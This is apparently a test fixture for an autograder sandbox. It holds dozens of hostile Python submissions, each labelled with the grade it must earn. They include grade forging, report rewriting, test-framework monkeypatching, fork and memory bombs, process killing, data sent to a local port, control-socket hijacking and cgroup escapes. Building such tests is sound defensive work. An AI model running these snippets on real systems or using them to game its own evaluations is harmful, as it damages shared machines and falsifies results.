"""Hostile and broken submissions against the engine's mini assignment.

Each entry is one attack: the files of a submission folder (or a builder
for an archive or notebook), and what grading it must lead to:

- ``double``: the attack sits in ``mini.double``; that test scores 0, every
  honest test (``mini.add``, ``mini.Scale``, the ``other`` exercise) full marks;
- ``module``: the attack sits in ``mini`` at import: all of ``mini`` scores 0,
  ``other`` full marks;
- ``whole``: the submission cannot be read at all: a row of zeros with a reason;
- ``honest``: the trick is harmless and the honest code earns full marks;
- ``self_harm``: the attack breaks its own module's runtime (``mini.double``
  scores 0, honest neighbours in ``mini`` may too), never another exercise.

Placeholders filled in by the test: {OUT} (the run's out folder), {REPO}
(this repository), {CANARY} (a folder the attacks try to damage), {PORT}
(a live TCP listener on 127.0.0.1), {REF} (the reference's source).
"""
from __future__ import annotations

REF = '''
import torch


def add(a, b):
    return a + b


def double(x):
    return x * 2


class Scale(torch.nn.Module):
    def __init__(self, k=3.0):
        super().__init__()
        self.k = k

    def forward(self, x):
        return x * self.k
'''
OTHER = "def answer():\n    return 42\n"


def in_double(body: str, prelude: str = "") -> dict[str, str]:
    """A mini.py whose double() runs ``body`` (indented into the function)."""
    src = REF.replace("def double(x):\n    return x * 2",
                      "def double(x):\n" + "\n".join("    " + line for line in body.strip().splitlines()))
    return {"mini.py": prelude + src, "other.py": OTHER}


def at_import(code: str) -> dict[str, str]:
    return {"mini.py": code + "\n" + REF, "other.py": OTHER}


WRONG = "return x * 3"

# Finds the fork server's control socket wherever it could be reached from
# inside: a path near the submission (the prepared copy lives in the
# grader's scratch folder), or a descriptor the worker inherited.
FIND_CONTROL = '''
import glob, os, socket
def control_sockets():
    found, d = [], os.path.dirname(os.path.abspath(__file__))
    for _ in range(4):
        # Landlock may forbid listing the folder, not connecting to a path in it.
        for path in {os.path.join(d, "zygote.sock"), *glob.glob(os.path.join(d, "*.sock"))}:
            try:
                s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
                s.settimeout(5)
                s.connect(path)
                found.append(s)
            except OSError:
                pass
        d = os.path.dirname(d)
    for fd in range(3, 1024):
        try:
            s = socket.socket(fileno=os.dup(fd))
        except OSError:
            continue
        if s.type == socket.SOCK_SEQPACKET:
            found.append(s)
    return found
'''

# Imported by an unconfined helper worker (if one could be had): it forks a
# watcher that rewrites the submission's judge report, wherever it is
# written, into full marks before the grader reads it.
FORGER = '''
import ctypes, glob, json, os, struct, time
here = os.path.dirname(os.path.abspath(__file__))
scratch = os.path.dirname(os.path.dirname(here))
slug = os.path.basename(here)

def forge(path):
    try:
        report = json.load(open(path))
        for t in report["tests"]:
            t["status"], t["output"] = "passed", ""
        tmp = path + ".forged"
        json.dump(report, open(tmp, "w"))
        os.replace(tmp, path)
    except Exception:
        pass

if os.fork() == 0:
    os.setsid()
    libc = ctypes.CDLL(None)
    fd = libc.inotify_init()
    for d in {scratch, os.path.join(scratch, "judges"), os.path.dirname(scratch)}:
        libc.inotify_add_watch(fd, d.encode(), 0x80 | 0x8)  # IN_MOVED_TO | IN_CLOSE_WRITE
    end = time.time() + 120
    while time.time() < end:
        os.read(fd, 4096)
        for path in glob.glob(scratch + "/**/" + slug + "*.report.json", recursive=True):
            forge(path)
    os._exit(0)
'''

ATTACKS: dict[str, tuple[dict, str]] = {
    # ---- earning points it did not earn
    "fake_summary": (in_double('print("===== 5 passed in 0.01s =====")\nprint(\'{"score": 100}\')\n' + WRONG), "double"),
    "writes_results_everywhere": (in_double('''
import os, json
for d in [".", "..", "../..", "/tmp", "{OUT}", "{OUT}/writes_results_everywhere", "{REPO}"]:
    for name in ["results.json", "grades.csv"]:
        try:
            with open(os.path.join(d, name), "w") as f:
                f.write('{"score": 1000}' if name.endswith("json") else "submission,score\\nwrites_results_everywhere,1000\\n")
        except OSError:
            pass
''' + WRONG), "double"),
    "detached_writer": (at_import('''
import os, threading, time
try:
    if os.fork() == 0:
        os.setsid()
        time.sleep(3)
        open("{OUT}/grades.csv", "w").write("pwned")
        os._exit(0)
except OSError:
    pass
def _later():
    time.sleep(1)
    try:
        open("{OUT}/grades.csv", "w").write("pwned")
    except OSError:
        pass
threading.Thread(target=_later, daemon=True).start()
raise RuntimeError("and this module is broken too")
'''), "module"),
    "system_exit": (in_double("raise SystemExit(0)"), "double"),
    "keyboard_interrupt": (in_double("raise KeyboardInterrupt"), "double"),
    "base_exception": (in_double("class Boom(BaseException):\n    pass\nraise Boom('all tests passed')"), "double"),
    "lying_eq": (in_double('''
class Liar:
    def __eq__(self, other):
        return True
    def __bool__(self):
        return True
return Liar()'''), "double"),
    "lying_class": (in_double('''
import torch
class Fake:
    __class__ = property(lambda self: torch.Tensor)
    shape = property(lambda self: x.shape)
    dtype = property(lambda self: x.dtype)
return Fake()'''), "double"),
    "tensor_subclass_torch_function": (in_double('''
import torch
class Liar(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        return True
    def __eq__(self, other):
        return True
return (x * 3).as_subclass(Liar)'''), "double"),
    "int_subclass": ({"mini.py": REF.replace("return a + b", '''class Liar(int):
        def __eq__(self, other):
            return True
        __hash__ = int.__hash__
    return Liar(a + b + 1)'''), "other.py": OTHER}, "add"),
    "monkeypatch_torch_and_builtins": (in_double(WRONG, prelude='''
import builtins, torch
torch.allclose = lambda *a, **k: True
torch.equal = lambda *a, **k: True
torch.Tensor.__eq__ = lambda self, other: torch.ones((), dtype=torch.bool)
builtins.isinstance = lambda *a: True
'''), "self_harm"),
    "monkeypatch_pytest_hypothesis": (in_double('''
try:
    import pytest, hypothesis
    pytest.fail = lambda *a, **k: None
    hypothesis.given = lambda *a, **k: (lambda f: f)
except Exception:
    pass
''' + WRONG), "double"),
    "ships_conftest_and_ini": ({**in_double(WRONG),
        "conftest.py": "import pytest\n@pytest.hookimpl(hookwrapper=True)\ndef pytest_runtest_makereport(item, call):\n"
                       "    out = yield\n    r = out.get_result()\n    r.outcome = 'passed'\n",
        "pytest.ini": "[pytest]\naddopts = -p no:grader\n",
        "evil.pth": "import os; os.system('touch /tmp/pwned-by-pth')\n",
        "sitecustomize.py": "open('/tmp/pwned-by-sitecustomize', 'w').write('x')\n"}, "double"),
    "shadows_torch_and_friends": ({**in_double("return x * 2"),
        "torch.py": "raise SystemExit('shadowed torch')\n",
        "pytest.py": "raise SystemExit('shadowed pytest')\n",
        "hypothesis.py": "raise SystemExit('shadowed hypothesis')\n",
        "grader.py": "raise SystemExit('shadowed grader')\n",
        "solutions/mini.py": "def double(x):\n    return x * 3\n"}, "honest"),
    "imports_the_reference": (in_double('''
import importlib, sys
sys.path.insert(0, "{REPO}/tests/fixtures/mini")
sys.path.insert(0, "{REPO}")
ref = importlib.import_module("solutions.mini")
return ref.double(x)'''), "double"),
    "reads_the_reference_file": (in_double('''
ns = {}
exec(open("{REPO}/tests/fixtures/mini/solutions/mini.py").read(), ns)
return ns["double"](x)'''), "double"),
    "reads_other_submissions": (in_double('''
import glob
for path in glob.glob("/tmp/grader-*/subs/*/mini.py") + glob.glob("/tmp/**/mini.py", recursive=True):
    if "reads_other" not in path:
        ns = {}
        exec(open(path).read(), ns)
        return ns["double"](x)
''' + WRONG), "double"),
    "reads_judge_memory": (in_double('''
import os
for pid in os.listdir("/proc"):
    if pid.isdigit() and int(pid) != os.getpid():
        try:
            with open(f"/proc/{pid}/mem", "rb") as f:
                f.read(16)
            return x * 2
        except OSError:
            pass
''' + WRONG), "double"),
    "import_hook_swaps_modules": (in_double(WRONG, prelude='''
import sys, types
class Finder:
    def find_spec(self, name, path=None, target=None):
        if name.startswith(("grader", "pytest", "solutions", "hypothesis")):
            raise ImportError("swapped")
        return None
sys.meta_path.insert(0, Finder())
sys.modules["torch.testing"] = types.ModuleType("fake")
'''), "double"),

    # ---- hurting others
    "loops_at_import": (at_import("while True:\n    pass"), "module"),
    "loops_in_call": (in_double("while True:\n    pass"), "double"),
    "sleeps_forever": (in_double("import time\ntime.sleep(10**7)"), "double"),
    "ignores_sigterm": (in_double("import signal\nsignal.signal(signal.SIGTERM, signal.SIG_IGN)\nwhile True:\n    pass"), "double"),
    "memory_bomb_at_once": (in_double("import torch\nbig = torch.empty(10**11)\nreturn x * 2"), "double"),
    "memory_bomb_gradual": (in_double("hog = []\nwhile True:\n    hog.append(bytearray(100 * 2**20))"), "double"),
    "fork_storm": (in_double("import os\nwhile True:\n    os.fork()"), "double"),
    "subprocess_storm": (in_double("import subprocess\nfor _ in range(1000):\n    subprocess.Popen(['sleep', '1000'])"), "double"),
    "fills_the_disk": (in_double('''
import os
block = b"x" * (8 * 2**20)
i = 0
while True:
    with open(f"fill{i}.bin", "wb") as f:
        for _ in range(8):
            f.write(block)
    i += 1'''), "double"),
    "huge_output": (in_double("import sys\nfor _ in range(200):\n    sys.stdout.write('y' * 2**20)\nreturn x * 2"), "honest"),
    "deletes_and_chmods_files": (in_double('''
import os, shutil
for target in ["{CANARY}/keep.txt", "{REPO}/tests/fixtures/mini/solutions/mini.py"]:
    for attack in (os.remove, lambda p: os.chmod(p, 0), lambda p: os.utime(p, (0, 0))):
        try:
            attack(target)
        except OSError:
            pass
shutil.rmtree("{CANARY}", ignore_errors=True)
''' + WRONG), "double"),
    "signals_the_grader": (in_double('''
import os, signal
for pid in range(1, 65536):
    if pid != os.getpid():
        for sig in (signal.SIGSTOP, signal.SIGKILL):
            try:
                os.kill(pid, sig)
            except OSError:
                pass
''' + WRONG), "double"),
    "reads_stdin": (in_double("import sys\ndata = sys.stdin.read()\nreturn x * 2"), "honest"),
    "segfaults": (in_double("import ctypes\nctypes.string_at(0)"), "double"),
    "reaches_the_network": (in_double('''
import socket
for family, addr in ((socket.AF_INET, ("127.0.0.1", {PORT})), (socket.AF_INET6, ("::1", {PORT}))):
    try:
        s = socket.socket(family, socket.SOCK_STREAM)
        s.settimeout(1)
        s.connect(addr)
        s.sendall(b"stolen")
    except OSError:
        pass
try:
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.sendto(b"stolen", ("127.0.0.1", {PORT}))
except OSError:
    pass
''' + WRONG), "double"),
    "huge_reply": (in_double("import torch\nreturn torch.zeros(64 * 2**20)"), "double"),

    # ---- commanding the grader (its fork server, its reports, its environment)
    "control_socket_stop": (in_double(FIND_CONTROL + '''
import json
for s in control_sockets():
    try:
        if s.type == socket.SOCK_SEQPACKET:
            a, b = socket.socketpair()
            socket.send_fds(s, [b'{"op": "stop"}'], [b.fileno()])
        else:
            s.sendall(b'{"op": "stop"}')
    except OSError:
        pass
''' + WRONG), "double"),
    "control_socket_spawn_unconfined": ({**in_double(FIND_CONTROL + '''
import json
from grader import protocol
here = os.path.dirname(os.path.abspath(__file__))
for s in control_sockets():
    try:
        ours, theirs = socket.socketpair()
        request = json.dumps({"op": "spawn", "dir": here, "tag": "helper", "limits": {
            "landlock": False, "seccomp": False, "memory_mib": 65536, "cpu_s": 100000}}).encode()
        if s.type == socket.SOCK_SEQPACKET:
            reply, back = socket.socketpair()
            socket.send_fds(s, [request], [back.fileno(), theirs.fileno()])
        else:
            socket.send_fds(s, [request], [theirs.fileno()])
        blobs = []
        protocol.send(ours, {"op": "import", "args": protocol.encode(
            {"name": "forger", "student": True}, blobs, None)}, blobs)
        ours.settimeout(10)
        protocol.recv(ours)
    except Exception:
        pass
''' + WRONG), "forger.py": FORGER}, "double"),
    "dumps_the_environment": (in_double('''
import os
raise RuntimeError("my environment: " + repr(dict(os.environ)))'''), "double"),

    # ---- acting outside itself (issue 15): each returns the right answer
    # only if the kernel let it touch another process or escape a cap, and
    # most do real damage when they succeed.
    "prlimits_the_fork_server": (in_double('''
import os, resource
try:
    resource.prlimit(os.getppid(), resource.RLIMIT_CPU, (1, 1))
except OSError:
    ''' + WRONG + '''
return x * 2'''), "double"),
    "nudges_its_siblings": (in_double('''
import os, resource
me, parent = os.getpid(), os.getppid()
family = [parent]
for entry in os.listdir("/proc"):
    if entry.isdigit() and int(entry) != me:
        try:
            with open(f"/proc/{entry}/stat") as f:
                stat = f.read()
            if int(stat[stat.rindex(")") + 2:].split()[1]) == parent:
                family.append(int(entry))
        except (OSError, ValueError):
            pass
done = 0
for pid in family:
    for act in (lambda p: os.sched_setaffinity(p, {min(os.sched_getaffinity(0))}),
                lambda p: os.setpriority(os.PRIO_PROCESS, p, 19),
                lambda p: resource.prlimit(p, resource.RLIMIT_NOFILE, (4, 4))):
        try:
            act(pid)
            done += 1
        except OSError:
            pass
if done:
    return x * 2
''' + WRONG), "double"),
    "kills_every_process": (in_double('''
import os, signal
for target in (-1, -os.getpgid(os.getppid())):
    try:
        os.kill(target, signal.SIGKILL)
        return x * 2
    except OSError:
        pass
''' + WRONG), "double"),
    "memfd_growth": (in_double('''
import os, resource
if not hasattr(double, "k"):  # grow once per worker, keep it, and answer alike after
    double.k = 3
    limit = resource.getrlimit(resource.RLIMIT_DATA)[0]
    used = int([l for l in open("/proc/self/status") if l.startswith("VmData")][0].split()[1]) << 10
    goal = (2 << 30 if limit == resource.RLIM_INFINITY else limit - used) + (256 << 20)
    block, fds = b"m" * (32 << 20), []
    try:
        while len(fds) * len(block) < goal:
            fd = os.memfd_create("hog")
            os.write(fd, block)
            fds.append(fd)
        double.k = 2  # more than the data limit leaves, and nobody said no
    except OSError:
        pass
return x * double.k'''), "double"),
    "shared_anonymous_growth": (in_double('''
import mmap, resource
if not hasattr(double, "k"):
    double.k, double.maps = 3, []
    limit = resource.getrlimit(resource.RLIMIT_DATA)[0]
    used = int([l for l in open("/proc/self/status") if l.startswith("VmData")][0].split()[1]) << 10
    goal = (2 << 30 if limit == resource.RLIM_INFINITY else limit - used) + (256 << 20)
    block = b"s" * (64 << 20)
    try:
        while len(double.maps) * (256 << 20) < goal:
            m = mmap.mmap(-1, 256 << 20)
            for off in range(0, len(m), len(block)):
                m[off:off + len(block)] = block
            double.maps.append(m)
        double.k = 2
    except OSError:
        pass
return x * double.k'''), "double"),
    "thread_storm": (in_double('''
import _thread, threading, time
if not hasattr(double, "k"):
    double.k, started = 3, 0
    threading.stack_size(64 * 1024)  # small stacks: the data limit is not what stops it
    try:
        while started < 20000:
            _thread.start_new_thread(time.sleep, (60,))
            started += 1
        double.k = 2
    except RuntimeError:
        pass
return x * double.k'''), "double"),
    "raises_its_own_caps": (in_double('''
import glob, os
trees = set()  # its own cgroup's parent: the run's tree (never the machine's other cgroups)
for fields in (line.split() for line in open("/proc/self/mountinfo")):
    if fields[fields.index("-") + 1] in ("cgroup", "cgroup2"):
        if "/grader-" in fields[4]:
            trees.add(fields[4])  # bound into bubblewrap
        for line in open("/proc/self/cgroup"):
            own = os.path.normpath(fields[4] + "/" + line.strip().split(":", 2)[2])
            if "/grader-" in own:
                trees.add(os.path.dirname(own))
moved = 0
for tree in trees:
    for folder in [tree, *glob.glob(tree + "/*/")]:
        for name, text in (("pids.max", "max"), ("memory.limit_in_bytes", "-1"), ("memory.max", "max"),
                           ("cgroup.procs", "0")):
            try:
                with open(os.path.join(folder, name), "w") as f:
                    f.write(text)
                moved += 1
            except OSError:
                pass
if moved:
    return x * 2
''' + WRONG), "double"),
    "raises_its_own_rlimits": (in_double('''
import resource
raised = 0
for which in (resource.RLIMIT_DATA, resource.RLIMIT_CPU, resource.RLIMIT_FSIZE):
    try:
        resource.setrlimit(which, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        raised += 1
    except (OSError, ValueError):
        pass
# Any capability left (a root worker without bubblewrap) is a way past the
# other walls, whether or not this machine grants CAP_SYS_RESOURCE.
for line in open("/proc/self/status"):
    if line.startswith("CapEff:") and int(line.split()[1], 16):
        raised += 1
if raised:
    return x * 2
''' + WRONG), "double"),

    # ---- breaking the batch
    "non_utf8_source": ({"mini.py": b"\xff\xfe def double(x):\n    return x\n", "other.py": OTHER}, "module"),
    "symlink_to_passwd": ({"other.py": OTHER, "@mini.py": "/etc/passwd"}, "module"),
    "symlink_to_solutions": ({"other.py": OTHER, "@mini.py": "{REPO}/tests/fixtures/mini/solutions/mini.py"}, "module"),
}

# Archives and notebooks: built by the test (see test_adversarial.py).
SPECIAL = {
    "zip_slip": "whole",
    "zip_bomb": "whole",
    "malformed_notebook": "whole",
    "ten_thousand_cells": "honest",
    "notebook_magics": "honest",
    "name with spaces ünï": "honest",
}
